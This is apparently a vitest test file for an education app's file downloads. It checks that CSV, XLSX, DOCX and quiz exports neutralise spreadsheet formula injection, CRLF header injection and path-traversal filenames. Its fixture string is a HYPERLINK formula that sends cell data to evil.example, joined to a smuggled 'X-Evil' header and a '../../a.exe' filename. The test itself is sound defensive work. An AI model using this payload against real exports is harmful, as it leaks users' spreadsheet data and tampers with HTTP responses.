import { parse } from 'csv-parse/sync';
import { readXlsx } from 'hucre/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { appeals } from '../database/schema/marking.ts';
import {
  buildQuestion,
  buildQuiz,
  buildStudentOf,
  buildSubmission,
  buildTeacher,
} from '../testing/factories.ts';
import { startTestApp, type TestApp } from '../testing/test-app.ts';
import { until } from '../testing/until.ts';

/** Text that a spreadsheet would run and that would start another response header. */
const HOSTILE = '=HYPERLINK("http://evil.example?"&A1,"x")\r\nX-Evil: 1; filename="../../a.exe"';
const runs = /^\s*[=+\-@＝＋－＠\t\r]/u;

describe('downloads of text by somebody hostile', () => {
  let app: TestApp;
  let cookie: string;
  let paths: Record<string, string>;
  beforeAll(async () => {
    app = await startTestApp();
    const { database } = app;
    const teacher = await buildTeacher(database, { name: HOSTILE });
    const student = await buildStudentOf(database, teacher, { name: HOSTILE, username: HOSTILE });
    const question = await buildQuestion(database, {
      createdBy: teacher.id,
      questionText: HOSTILE,
      markSchemeAnswer: HOSTILE,
      synonyms: HOSTILE,
      topic: HOSTILE,
      subject: HOSTILE,
      level: HOSTILE,
      specCode: HOSTILE,
    });
    const { quizCode } = await buildQuiz(database, {
      creatorUid: teacher.id,
      questionIds: [question.id],
      title: HOSTILE,
      subject: HOSTILE,
    });
    const written = { userAnswer: HOSTILE, feedback: HOSTILE, markAwarded: 1 };
    await buildSubmission(database, quizCode, student.id, question.id, written);
    await database
      .insert(appeals)
      .values({ quizCode, userId: student.id, questionId: question.id, reason: HOSTILE });
    cookie = await app.cookieOf(teacher);
    const batchId = await writeReports(teacher);
    paths = {
      responses: `/quizzes/${quizCode}/responses-file?format=`,
      results: `/quizzes/${quizCode}/results-file?format=`,
      markbook: '/markbook?format=',
      assessments: `/students/${student.id}/assessments-file?format=`,
      reports: `/report-batches/${batchId}/file?format=`,
      questions: '/questions/export?format=',
      evidence: `/quizzes/${quizCode}/evidence?x=`,
    };
  });
  afterAll(() => app.stop());

  async function writeReports(teacher: { email: string }): Promise<string> {
    const { reports } = await app.as(teacher);
    const text = HOSTILE.slice(0, 190);
    const { id: batchId } = await reports.startBatch({
      students: [{ name: text, positives: text, areasToImprove: text }],
      classInfo: { className: text, subject: text, term: text, unitsCovered: text },
    });
    const { id: reportId, revision } = await until(async () => {
      const [report] = (await reports.getBatch({ batchId })).reports;
      if (report?.state !== 'written') throw new Error('The report is not written yet.');
      return report;
    });
    await reports.edit({ reportId, revision, report: HOSTILE });
    return batchId;
  }

  async function download(name: string, format: string) {
    const response = await fetch(`${app.address}/api${paths[name]}${format}`, {
      headers: { cookie },
    });
    expect(response.status).toBe(200);
    return { headers: response.headers, bytes: new Uint8Array(await response.arrayBuffer()) };
  }

  it.each(['responses', 'results', 'markbook', 'assessments', 'reports', 'questions'])(
    'the CSV file of %s has no cell that a spreadsheet would run',
    async (name) => {
      const { bytes } = await download(name, 'csv');
      const rows = parse(Buffer.from(bytes), { bom: true, relax_column_count: true });
      expect(rows.flat().join()).toContain('=HYPERLINK');
      expect(rows.flat().filter((cell) => runs.test(cell))).toEqual([]);
    },
  );

  it.each([
    ['responses', 'xlsx'],
    ['results', 'xlsx'],
    ['markbook', 'xlsx'],
    ['assessments', 'xlsx'],
    ['reports', 'xlsx'],
    ['evidence', ''],
  ])('the workbook of %s has no formula', async (name, format) => {
    const { bytes } = await download(name, format);
    const { sheets } = await readXlsx(bytes);
    const cells = sheets.flatMap((sheet) => [...(sheet.cells?.values() ?? [])]);
    expect(JSON.stringify(sheets.map(({ rows }) => rows))).toContain('=HYPERLINK');
    expect(cells.filter(({ formula }) => formula !== undefined)).toEqual([]);
  });

  it.each([
    ['responses', 'csv'],
    ['results', 'xlsx'],
    ['markbook', 'csv'],
    ['assessments', 'csv'],
    ['reports', 'docx'],
    ['questions', 'gift'],
    ['questions', 'moodle-xml'],
    ['evidence', ''],
  ])('%s as %s has a name that is not a path and adds no header', async (name, format) => {
    const { headers } = await download(name, format);
    const called = decodeURIComponent(headers.get('content-disposition') ?? '');
    expect(called).toMatch(/filename/);
    expect(called).not.toMatch(/[/\\\r\n]|\.exe/);
    expect(headers.get('x-evil')).toBeNull();
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('cache-control')).toBe('no-store');
  });
});
